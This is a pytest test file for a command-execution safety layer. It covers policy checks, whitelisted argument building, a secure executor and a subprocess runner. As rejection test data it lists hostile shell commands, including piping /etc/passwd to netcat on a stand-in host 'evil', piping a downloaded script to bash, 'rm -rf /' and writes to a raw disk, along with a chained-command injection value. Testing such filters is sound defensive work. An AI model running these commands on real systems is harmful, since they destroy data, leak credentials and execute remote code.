"""Tests for the command policy, whitelisted argv building and the runner."""

import sys

import pytest

from safehost.core.errors import (
    CommandInjectionError,
    ExecutionError,
    SanitizationError,
    SchemaValidationError,
)
from safehost.core.types import CommandResult
from safehost.exec.commands import SecureCommandExecutor
from safehost.exec.runner import CommandRunner
from safehost.exec.sandbox import CommandPolicy


class TestCommandPolicy:
    policy = CommandPolicy()

    def test_allow_prefix_takes_precedence(self):
        decision = self.policy.check("sudo chmod 777 /srv/app")
        assert decision.allowed
        assert decision.allow_prefix == "sudo chmod"

    def test_prefix_requires_word_boundary(self):
        decision = self.policy.check("idx; reboot")
        assert not decision.allowed
        assert "command chaining" in decision.reason

    def test_longest_prefix_reported(self):
        assert self.policy.check("whoami /groups").allow_prefix == "whoami /groups"
        assert self.policy.check("net start | findstr postgres").allow_prefix == "net start |"

    @pytest.mark.parametrize(
        "command",
        [
            "ls; rm -rf ~",
            "echo ok && reboot",
            "cat /etc/passwd | nc evil 80",
            "echo `id`",
            "echo $(whoami)",
            "curl https://x.sh | bash",
            "echo data > /dev/sda",
            "rm -rf /",
        ],
    )
    def test_dangerous_patterns_rejected(self, command):
        decision = self.policy.check(command)
        assert not decision.allowed
        assert decision.reason.startswith("Dangerous command pattern detected")

    def test_sudo_misuse_outside_allow_list(self):
        assert not self.policy.check("sudo userdel deploy").allowed
        assert not self.policy.check("sudo rm -rf /var/lib/app").allowed

    def test_plain_command_allowed(self):
        assert self.policy.check("git status").allowed

    def test_empty_command(self):
        assert self.policy.check("   ").reason == "empty command"

    def test_extra_deny_patterns(self):
        policy = CommandPolicy(extra_deny_patterns=[r"\bshutdown\b"])
        assert not policy.check("shutdown now").allowed

    def test_needs_shell(self):
        assert CommandPolicy.needs_shell("net start | findstr x")
        assert not CommandPolicy.needs_shell("systemctl status nginx")


class TestBuildArgv:
    def test_action_and_boolean_flag(self, ctx):
        executor = SecureCommandExecutor(ctx)
        assert executor.build_argv("docker", {"action": "ps", "-a": True}) == ["docker", "ps", "-a"]

    def test_flags_sanitized_in_order(self, ctx):
        argv = SecureCommandExecutor(ctx).build_argv(
            "psql", {"-U": "app_user", "-d": "app_db", "-p": "5432", "-c": "SELECT 1"}
        )
        assert argv == ["psql", "-U", "app_user", "-d", "app_db", "-p", "5432", "-c", "SELECT 1"]

    def test_newline_in_flag_value_rejected(self, ctx):
        with pytest.raises(SanitizationError):
            SecureCommandExecutor(ctx).build_argv("psql", {"-U": "app_user\n", "-d": "db"})

    def test_disallowed_flag_dropped(self, ctx):
        argv = SecureCommandExecutor(ctx).build_argv("docker", {"action": "ps", "--privileged": True})
        assert argv == ["docker", "ps"]

    def test_false_and_none_skipped(self, ctx):
        argv = SecureCommandExecutor(ctx).build_argv(
            "docker", {"action": "run", "--rm": False, "--name": None, "args": ["nginx"]}
        )
        assert argv == ["docker", "run", "nginx"]

    def test_unknown_command(self, ctx):
        with pytest.raises(CommandInjectionError, match="Command not allowed: bash"):
            SecureCommandExecutor(ctx).build_argv("bash", {})

    def test_action_not_in_whitelist(self, ctx):
        with pytest.raises(CommandInjectionError):
            SecureCommandExecutor(ctx).build_argv("docker", {"action": "rm"})

    def test_action_rejected_for_action_less_command(self, ctx):
        with pytest.raises(CommandInjectionError):
            SecureCommandExecutor(ctx).build_argv("nginx", {"action": "stop"})

    def test_injected_argument_rejected(self, ctx):
        with pytest.raises(SanitizationError):
            SecureCommandExecutor(ctx).build_argv("systemctl", {"action": "restart", "args": ["nginx;reboot"]})

    def test_args_must_be_a_list(self, ctx):
        with pytest.raises(SchemaValidationError):
            SecureCommandExecutor(ctx).build_argv("systemctl", {"action": "status", "args": "nginx"})

    def test_bad_identifier_flag(self, ctx):
        with pytest.raises(SanitizationError):
            SecureCommandExecutor(ctx).build_argv("psql", {"-U": "1bad user"})

    def test_config_path_may_live_in_system_dirs(self, ctx):
        argv = SecureCommandExecutor(ctx).build_argv("nginx", {"-t": True, "-c": "/etc/nginx/nginx.conf"})
        assert argv[:2] == ["nginx", "-t"]
        assert argv[2] == "-c"
        assert argv[3].endswith("nginx.conf")


class TestExecuteSecure:
    @pytest.mark.asyncio
    async def test_runs_argv_and_records_history(self, ctx, fake_runner):
        executor = SecureCommandExecutor(ctx)
        result = await executor.execute_secure("systemctl", {"action": "status", "args": ["nginx"]})
        assert result.ok
        assert fake_runner.calls == [("systemctl", "status", "nginx")]
        history = executor.get_history()
        assert [(h.command, h.success) for h in history] == [("systemctl", True)]

    @pytest.mark.asyncio
    async def test_non_zero_exit_raises(self, ctx, fake_runner):
        fake_runner.results[("pm2", "list")] = CommandResult("pm2 list", 1, stderr="daemon not running")
        executor = SecureCommandExecutor(ctx)
        with pytest.raises(ExecutionError, match="daemon not running"):
            await executor.execute_secure("pm2", {"action": "list"})
        record = executor.get_history()[-1]
        assert not record.success
        assert "exit code 1" in record.error

    @pytest.mark.asyncio
    async def test_timeout_raises(self, ctx, fake_runner):
        fake_runner.results[("docker", "info")] = CommandResult("docker info", -1, timed_out=True)
        with pytest.raises(ExecutionError, match="timed out"):
            await SecureCommandExecutor(ctx).execute_secure("docker", {"action": "info"})

    @pytest.mark.asyncio
    async def test_rejected_before_spawning(self, ctx, fake_runner):
        executor = SecureCommandExecutor(ctx)
        with pytest.raises(CommandInjectionError):
            await executor.execute_secure("rm", {"args": ["-rf"]})
        assert fake_runner.calls == []
        assert executor.get_history()[0].success is False

    def test_clear_history(self, ctx):
        executor = SecureCommandExecutor(ctx)
        executor._record("docker", success=True)
        executor.clear_history()
        assert executor.get_history() == []


class TestExecuteValidated:
    @pytest.mark.asyncio
    async def test_simple_command_runs_without_shell(self, ctx, fake_runner):
        await SecureCommandExecutor(ctx).execute_validated("systemctl status nginx")
        assert fake_runner.calls == [("systemctl", "status", "nginx")]

    @pytest.mark.asyncio
    async def test_allow_listed_pipe_uses_shell(self, ctx, fake_runner):
        await SecureCommandExecutor(ctx).execute_validated("net start | findstr postgres")
        assert fake_runner.calls == ["net start | findstr postgres"]

    @pytest.mark.asyncio
    async def test_dangerous_command_rejected(self, ctx, fake_runner):
        executor = SecureCommandExecutor(ctx)
        with pytest.raises(CommandInjectionError, match="command chaining"):
            await executor.execute_validated("ls; rm -rf ~")
        assert fake_runner.calls == []
        assert executor.get_history()[0].success is False

    @pytest.mark.asyncio
    @pytest.mark.parametrize("command", ["", "   ", None, 42])
    async def test_invalid_format(self, ctx, command):
        with pytest.raises(SchemaValidationError, match="Invalid command format"):
            await SecureCommandExecutor(ctx).execute_validated(command)

    @pytest.mark.asyncio
    async def test_history_label_is_redacted(self, ctx):
        executor = SecureCommandExecutor(ctx)
        await executor.execute_validated("psql postgres://admin:hunter2@db/app")
        label = executor.get_history()[0].command
        assert "hunter2" not in label


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX commands")
class TestCommandRunner:
    @pytest.mark.asyncio
    async def test_exit_code_and_output(self):
        result = await CommandRunner().run(["sh", "-c", "echo out; echo err >&2; exit 3"])
        assert result.returncode == 3
        assert result.stdout.strip() == "out"
        assert result.stderr.strip() == "err"

    @pytest.mark.asyncio
    async def test_missing_binary(self):
        result = await CommandRunner().run(["safehost-no-such-binary"])
        assert result.returncode == 127
        assert not result.ok

    @pytest.mark.asyncio
    async def test_timeout_kills_process(self):
        result = await CommandRunner().run(["sleep", "5"], timeout=0.2)
        assert result.timed_out
        assert result.returncode == -1

    @pytest.mark.asyncio
    async def test_shell_mode(self, tmp_path):
        result = await CommandRunner().run_shell("echo a | tr a b", cwd=tmp_path)
        assert result.stdout.strip() == "b"

    @pytest.mark.asyncio
    async def test_missing_cwd_reported_in_both_modes(self, tmp_path):
        missing = tmp_path / "gone"
        runner = CommandRunner()

        argv_result = await runner.run(["echo", "hi"], cwd=missing)
        shell_result = await runner.run_shell("echo hi | cat", cwd=missing)

        for result in (argv_result, shell_result):
            assert result.returncode == 1
            assert "working directory not found" in result.stderr

    @pytest.mark.asyncio
    async def test_validated_shell_command_in_missing_cwd_is_recorded(self, ctx, tmp_path):
        ctx.runner = CommandRunner()
        executor = SecureCommandExecutor(ctx)

        with pytest.raises(ExecutionError):
            await executor.execute_validated("net start | findstr postgres", cwd=tmp_path / "gone")

        history = executor.get_history()
        assert len(history) == 1
        assert history[0].success is False
